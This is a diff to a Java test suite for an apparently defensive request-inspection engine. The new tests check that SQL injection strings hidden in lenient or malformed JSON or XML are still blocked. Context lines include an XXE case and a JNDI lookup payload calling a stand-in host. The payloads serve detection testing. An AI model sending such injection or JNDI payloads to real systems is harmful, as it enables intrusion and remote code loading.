@@ -141,6 +141,26 @@ class InputInspectionTest {
   }
 
   @Test
+  void jsonThatOnlyALenientParserAcceptsIsStillInspected() throws Exception {
+    engine("");
+    String longKey = "k".repeat(60_000);
+    Decision commented = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
+        "{ /* note */ 'id': 1, q: \"x' or 1=1\", }"));
+    Decision afterALongKey = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
+        "{\"" + longKey + "\": 1, \"n\": " + "9".repeat(2000) + ", \"q\": \"x' or 1=1\"}"));
+    Decision malformed = engine.evaluate(FakeRequest.of("POST", "/api/orders").body("application/json",
+        "{\"a\": [1, 2}, \"q\": \"x' or 1=1\"}"));
+
+    assertTrue(commented.blocks());
+    assertTrue(afterALongKey.blocks());
+    assertTrue(malformed.blocks());
+    List<Map<String, Object>> lines = auditLines();
+    assertEquals("json.$.q", at(lines.get(0), "threat.location"));
+    assertEquals("json.$.q", at(lines.get(1), "threat.location"));
+    assertEquals("body", at(lines.get(2), "threat.location"), "malformed: the whole text");
+  }
+
+  @Test
   void anXmlBodyIsInspectedAsAWholeForXxeAndByValue() throws Exception {
     engine("");
     Decision xxe = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
@@ -149,12 +169,16 @@ class InputInspectionTest {
         "<order id=\"7\"><note>${jndi:ldap://evil.example/a}</note></order>"));
     Decision benign = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
         "<order id=\"7\"><note>Leave at the door</note></order>"));
+    Decision afterAFault = engine.evaluate(FakeRequest.of("POST", "/import").body("application/xml",
+        "<order><a>&undeclared;</a><note>x' or 1=1</note></order>"));
 
     assertTrue(xxe.blocks());
     assertTrue(inValue.blocks());
     assertFalse(benign.blocks());
+    assertTrue(afterAFault.blocks(), "what follows a fault of the safe reader is still inspected");
     List<Map<String, Object>> lines = auditLines();
     assertEquals("body", at(lines.get(0), "threat.location"));
+    assertEquals("body", at(lines.get(lines.size() - 1), "threat.location"));
     assertEquals("xxe", at(lines.get(0), "threat.technique"));
     assertEquals("xml./order/note", at(lines.get(1), "threat.location"));
     assertTrue(inspected.contains("XML id=7"), inspected.toString());
@@ -256,8 +280,9 @@ class InputInspectionTest {
         .body("application/octet-stream", new byte[3000], false);
     Decision chunkedTooLarge = engine.evaluate(FakeRequest.of("POST", "/upload")
         .body("application/octet-stream", new byte[3000], true));
-    Decision jsonTooLarge = engine.evaluate(FakeRequest.of("POST", "/api").body("application/json",
-        "{\"a\":\"" + "x".repeat(1500) + "\"}"));
+    FakeRequest jsonTooLargeRequest = FakeRequest.of("POST", "/api").body("application/json",
+        "{\"a\":\"" + "x".repeat(1500) + "\"}");
+    Decision jsonTooLarge = engine.evaluate(jsonTooLargeRequest);
     Decision tooDeep = engine.evaluate(FakeRequest.of("POST", "/api").body("application/json", "[[[[[1]]]]]"));
     Decision deepEnough = engine.evaluate(FakeRequest.of("POST", "/api").body("application/json", "[[[[1]]]]"));
     Decision manyParameters = engine.evaluate(FakeRequest.of("POST", "/f").query("a=1&b=2")
@@ -272,6 +297,7 @@ class InputInspectionTest {
     assertEquals(-1, declaredTooLarge.bodyReadWith, "refused on its Content-Length, unread");
     assertEquals(413, chunkedTooLarge.status());
     assertEquals(413, jsonTooLarge.status());
+    assertEquals(-1, jsonTooLargeRequest.bodyReadWith, "refused on its Content-Length, unread");
     assertEquals(400, tooDeep.status());
     assertTrue(tooDeep.body().contains("urn:bulwark:problem:json-too-deep"), tooDeep.body());
     assertFalse(deepEnough.blocks());
